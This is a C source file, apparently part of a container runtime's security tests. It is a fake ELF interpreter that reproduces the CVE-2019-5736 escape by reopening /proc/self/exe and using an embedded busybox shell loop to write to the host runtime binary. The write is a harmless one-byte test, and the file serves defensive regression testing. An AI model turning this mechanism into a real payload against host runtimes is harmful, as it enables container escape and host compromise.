/* SPDX-License-Identifier: LGPL-2.1-or-later */
/*
 * A container's own ELF interpreter (tests/security/escape.bats, CVE-2019-5736 through start).
 * Installed in the rootfs as the dynamic loader nook asks for (/lib64/ld-linux-x86-64.so.2),
 * with /sbin/init replaced by a `#!/proc/self/exe` script: when the start child execs init, the
 * kernel runs /proc/self/exe, i.e. the image the child runs from, and loads *this* as its
 * interpreter, inside the container. If that image is nook's binary on the host (not a sealed
 * copy), this code runs with /proc/self/exe pointing at it:
 *   - it opens /proc/self/exe with O_PATH and hands that fd to a child which leaves nook's
 *     image (execs the container's busybox: a process still mapping the image keeps it busy);
 *   - the child retries writing through /proc/self/fd/N for 5 s: one byte at offset 0, the
 *     0x7f that starts every ELF file, so that nothing changes when it works (dd conv=notrunc);
 *     on nook's file it succeeds as soon as no process on the host runs it any more (ETXTBSY
 *     until then), on a sealed memfd never (EPERM: it stops at the first error other than ETXTBSY);
 *   - the interpreter itself execs the container's real init (busybox), so the container boots.
 * Everything is logged to /fakeld.log in the container.
 *
 * Freestanding (no libc: an ELF interpreter gets the main program's auxv, which a libc start-up
 * would misread); x86_64 only. Built with -nostdlib -static-pie -fno-stack-protector.
 */
typedef long L;

static L sys(L n, L a, L b, L c)
{
	L r;
	__asm__ volatile("syscall"
	                 : "=a"(r)
	                 : "a"(n), "D"(a), "S"(b), "d"(c)
	                 : "rcx", "r11", "memory");
	return r;
}

enum {
	SYS_write = 1,
	SYS_open = 2,
	SYS_fork = 57,
	SYS_execve = 59,
	SYS_exit = 60,
	SYS_readlink = 89
};
#define O_WRONLY 01
#define O_CREAT  0100
#define O_APPEND 02000
#define O_PATH   010000000

static L len(const char *s)
{
	L n = 0;
	while (s[n])
		n++;
	return n;
}

static void say(int fd, const char *s)
{
	sys(SYS_write, fd, (L)s, len(s));
}

static void num(int fd, L v)
{
	char b[24];
	int i = 23;
	b[i] = 0;
	if (v < 0) {
		say(fd, "-");
		v = -v;
	}
	do
		b[--i] = (char)('0' + v % 10);
	while (v /= 10);
	say(fd, b + i);
}

__attribute__((used)) void fakeld_main(L *sp)
{
	char **envp = (char **)(sp + 1 + sp[0] + 1);
	int log = (int)sys(SYS_open, (L) "/fakeld.log", O_WRONLY | O_CREAT | O_APPEND, 0644);
	L fd = sys(SYS_open, (L) "/proc/self/exe", O_PATH, 0);
	char exe[512];
	L n = sys(SYS_readlink, (L) "/proc/self/exe", (L)exe, sizeof(exe) - 1);
	exe[n > 0 ? n : 0] = 0;
	say(log, "fakeld: running inside the image of ");
	say(log, exe);
	say(log, "; O_PATH fd ");
	num(log, fd);
	say(log, "\n");
	char fdpath[32] = "/proc/self/fd/";
	int k = 14;
	for (L d = fd >= 100 ? 100 : fd >= 10 ? 10 : 1; fd >= 0 && d; d /= 10)
		fdpath[k++] = (char)('0' + fd / d % 10);
	fdpath[k] = 0;
	if (fd >= 0 && sys(SYS_fork, 0, 0, 0) == 0) {
		char *sh[] = {
		    "sh",
		    "-c",
		    "for i in $(seq 50); do "
		    "if out=$(printf '\\177' | dd of=\"$1\" bs=1 count=1 conv=notrunc 2>&1); then "
		    "echo \"wrote nook's binary after $i tries: $(readlink \"$1\")\" >> "
		    "/fakeld.log; exit 0; fi; "
		    "case $out in *busy*) sleep 0.1 ;; *) break ;; esac; done; "
		    "echo \"never wrote: $out\" >> /fakeld.log",
		    "sh",
		    fdpath,
		    0};
		sys(SYS_execve, (L) "/bin/busybox", (L)sh, (L)envp);
		sys(SYS_exit, 1, 0, 0);
	}
	char *init[] = {"init", 0};
	sys(SYS_execve, (L) "/bin/busybox", (L)init, (L)envp);
	say(log, "fakeld: exec /bin/busybox failed\n");
	sys(SYS_exit, 1, 0, 0);
}

__asm__(".globl _start\n"
        "_start:\n"
        "	mov %rsp, %rdi\n"
        "	and $-16, %rsp\n"
        "	call fakeld_main\n"
        "	hlt\n");
